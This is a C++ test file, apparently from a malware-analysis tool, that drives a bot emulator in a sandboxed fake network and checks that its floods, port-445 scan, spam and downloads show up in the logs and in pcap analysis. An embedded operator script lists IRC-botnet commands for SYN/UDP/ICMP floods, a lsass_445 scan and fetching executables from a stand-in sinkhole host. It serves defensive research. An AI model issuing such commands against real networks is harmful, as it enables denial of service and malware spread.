// The bundled bot emulator against fakenet, in the namespaces: the operator commands it, it
// floods, scans, spams and downloads inside the sandbox, and both fakenet's records and the
// analysis of the capture show it, each behaviour tied to the command that caused it.

#include <doctest/doctest.h>

#include <fstream>
#include <iterator>
#include <set>

#include "capture/live_capture.h"
#include "live.h"
#include "support/report_check.h"

namespace botscope::fakenet::live::test_botemu_live {

namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

/// The default script's commands with short waits, so that the test takes seconds.
constexpr const char* kQuickOperator = R"(operator b0ss
topic .advscan lsass_445 32 3 0 $SUBNET -s
wait 3
say .login bs-letmein
expect [MAIN] 5
say .ddos.syn $TARGET 80 2
expect [DDoS]: Done 10
say .ddos.udp $TARGET 0 2
expect [DDoS]: Done 10
msg .ddos.ping $TARGET 2
expect [DDoS]: Done 10
say .spam.start 5
expect [SPAM] 15
say .download http://$SINKHOLE/update.exe c:\windows\update.exe 1
expect [DOWNLOAD] 10
say .update tftp://$SINKHOLE/bot.exe
expect [UPDATE] 10
wait 3
say .quit
)";

Json parse_json(const std::string& s) {
    return Json::parse(s, nullptr, false);
}

std::size_t count_text(const std::vector<Json>& irc, const std::string& event,
                       const std::string& needle) {
    std::size_t n = 0;
    for (const auto& r : irc)
        if (r.value("event", "") == event &&
            r.value("text", "").find(needle) != std::string::npos)
            ++n;
    return n;
}

}  // namespace

TEST_CASE("the bot emulator, commanded by the operator, floods, scans, spams and downloads") {
    Netns net;
    REQUIRE_MESSAGE(net.ok(), net.error());
    Fakenet fn(net);
    std::string why;
    REQUIRE_MESSAGE(fn.start(why), why);
    Json b = fn.begin("emu", kQuickOperator);
    REQUIRE_MESSAGE(b.value("ok", false), b.dump());

    const fs::path pcap = fn.dir() / "emu" / "dump.pcap";
    std::optional<capture::LiveCapture> cap;
    in_ns(net.guest(), [&] {
        auto c = capture::LiveCapture::start(Netns::kGuestIf, pcap, {});
        REQUIRE_MESSAGE(c, c.error().message);
        cap.emplace(std::move(c.value()));
    });
    // Its own mount namespace with a private /tmp: the downloads stay out of the host's /tmp.
    Run bot = run(net.exec(net.guest(),
                           {"unshare", "--mount", "--propagation", "private", "--", "sh", "-c",
                            "mount -t tmpfs botemu-tmp /tmp && exec \"$0\" \"$@\"",
                            botemu_bin(), "--resolver", "10.66.0.1", "--max-seconds", "90",
                            "--beacon-seconds", "2"}),
                  120s);
    INFO("emulator stdout:\n" << bot.out << "\nstderr:\n" << bot.err);
    CHECK(bot.exit_code == 0);
    REQUIRE(cap->stop());
    Json e = fn.end("emu");
    REQUIRE_MESSAGE(e.value("ok", false), e.dump());
    const Json& f = e["fakenet"];
    INFO("fakenet log:\n" << fn.log());

    // --- what fakenet saw -----------------------------------------------------------------
    auto irc = records(f, "irc");
    std::string nick;
    for (const auto& r : irc) {
        if (r.value("event", "") == "register") {
            nick = r.value("nick", "");
            CHECK(r["pass"] == "bs-srvpass");
            CHECK(r["server"] == "10.66.0.1:8080");
        }
        if (r.value("event", "") == "join") {
            CHECK(r["channel"] == "#bs-botnet");
            CHECK(r["key"] == "bs-key");
        }
    }
    CHECK(nick.rfind("[USA|XP|SP2]-", 0) == 0);
    CHECK(count_text(irc, "operator", ".ddos.syn 10.66.0.200 80 2") == 1);
    CHECK(count_text(irc, "bot", "[MAIN]: Password accepted") == 1);
    CHECK(count_text(irc, "bot", "[DDoS]") >= 6);
    CHECK(count_text(irc, "bot", "[SCAN]") >= 1);
    CHECK(count_text(irc, "bot", "[SPAM]") == 1);
    CHECK(count_text(irc, "bot", "[DOWNLOAD]") == 1);

    std::set<std::string> names;
    for (const auto& r : records(f, "dns"))
        names.insert(r.value("name", ""));
    CHECK(names.count("cnc.botscope.test"));
    CHECK(names.count("update.botscope.test"));
    CHECK(names.count("mail-a.test"));

    auto smtp = records(f, "smtp");
    CHECK(smtp.size() == 5);
    for (const auto& m : smtp) {
        CHECK(m["subject"] == "Cheap meds online");
        REQUIRE(m["stored"].is_string());
        CHECK(fs::file_size(fn.dir() / "emu" / m["stored"].get<std::string>()) > 0);
    }

    std::string stub_sha;
    std::size_t beacons = 0;
    for (const auto& r : records(f, "http")) {
        if (r["uri"] == "/update.exe")
            stub_sha = r["served"]["sha256"];
        if (r["uri"].get<std::string>().rfind("/gate.php?", 0) == 0)
            ++beacons;
    }
    CHECK(stub_sha.size() == 64);
    CHECK(beacons >= 4);
    auto tftp = records(f, "tftp");
    REQUIRE(tftp.size() == 1);
    CHECK(tftp[0]["file"] == "bot.exe");
    CHECK(tftp[0]["completed"] == true);
    CHECK(tftp[0]["sha256"] == stub_sha);
    std::size_t probes_445 = 0;
    for (const auto& r : records(f, "tcp"))
        probes_445 += r["server"].get<std::string>().ends_with(":445");
    CHECK(f["tcp"]["count"].get<std::size_t>() >= 200);
    CHECK(probes_445 >= 150);  // the first 200 records of each kind are listed

    // --- what the capture shows, and that it agrees --------------------------------------
    Run a = run({botscope_bin(), "analyze-pcap", pcap.string(), "--json", "--host", "10.66.0.10"},
                60s);
    REQUIRE_MESSAGE(a.exit_code == 0, a.err);
    Json rep = parse_json(a.out);
    REQUIRE(rep.is_object());
    const std::string problems = botscope::testing::report_schema_problems(a.out);
    CHECK_MESSAGE(problems.empty(), problems);
    const Json& beh = rep["behavior"];
    REQUIRE(beh["cnc"]["irc"].size() == 1);
    CHECK(beh["cnc"]["irc"][0]["nick"] == nick);
    CHECK(beh["cnc"]["irc"][0]["server"]["port"] == 8080);

    std::map<std::string, const Json*> floods;
    for (const auto& fl : beh["floods"])
        floods[fl["kind"]] = &fl;
    INFO("floods: " << beh["floods"].dump() << "\ncommands: " << beh["commands"].dump());
    for (std::string kind : {"syn", "udp", "icmp"}) {
        INFO("flood " << kind);
        REQUIRE(floods.count(kind));
        const Json& fl = *floods[kind];
        CHECK(fl["target"] == "10.66.0.200");
        CHECK(fl["peak_pps"].get<double>() >= 50);
        REQUIRE(fl["command"].is_number());
        CHECK(beh["commands"][fl["command"].get<std::size_t>()]["category"] == "flood");
    }
    bool scanned = false;
    for (const auto& s : beh["scans"]) {
        if (s["ports"][0]["port"] != 445)
            continue;
        scanned = true;
        CHECK(s["targets"].get<int>() >= 200);
        REQUIRE(s["command"].is_number());
        CHECK(beh["commands"][s["command"].get<std::size_t>()]["where"] == "topic");
    }
    CHECK(scanned);
    REQUIRE(beh["spam_runs"].size() == 1);
    CHECK(beh["spam_runs"][0]["messages"] == smtp.size());
    std::size_t downloads = 0;
    for (const auto& d : beh["downloads"]) {
        ++downloads;
        CHECK(d["sha256"] == stub_sha);
        CHECK(d["command"].is_number());
    }
    CHECK(downloads == 2);
    CHECK(beh["cnc"]["http_beacons"].size() >= 1);

    std::set<std::string> captured_names;
    for (const auto& t : rep["network"]["dns"]["transactions"])
        captured_names.insert(t.value("query", ""));
    for (const auto& n : names)
        CHECK_MESSAGE(captured_names.count(n), n);
}

}  // namespace botscope::fakenet::live::test_botemu_live
